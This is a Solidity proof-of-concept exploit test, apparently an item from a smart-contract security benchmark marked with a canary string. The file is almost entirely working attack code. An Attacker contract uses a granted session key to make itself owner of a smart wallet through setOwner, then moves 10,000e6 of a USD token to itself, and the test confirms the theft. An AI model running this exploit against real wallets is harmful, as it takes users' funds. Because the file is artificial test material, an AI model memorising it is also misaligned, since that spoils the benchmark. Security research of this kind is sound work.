// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker is Signer {
    function ask(IEntryPoint point, address account, address validator, address owners, uint256 id) external {
        Call[] memory calls = new Call[](1);
        calls[0] = Call(owners, 0, abi.encodeWithSignature("setOwner(address)", address(this)));
        Operation memory op = operation(point, account, validator, Executions.encode(Mode.Strict, calls));
        op.signature = abi.encode(id, bytes(""));
        handle(point, op);
    }

    function take(IEntryPoint point, address account, address validator, address token) external {
        Call[] memory calls = new Call[](1);
        calls[0] = sending(token, address(this), 10_000e6);
        handle(point, operation(point, account, validator, Executions.encode(Mode.Strict, calls)));
    }
}

contract Proof is Base {
    Attacker private other;
    uint256 private id;

    function start() internal override {
        other = new Attacker();
        id = granted(terms(address(other), 0, true));
    }

    function exploit() public {
        other.ask(entryPoint, ana, address(sessions), address(owners), id);
        other.take(entryPoint, ana, address(owners), address(usd));
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 9_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(sessions);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
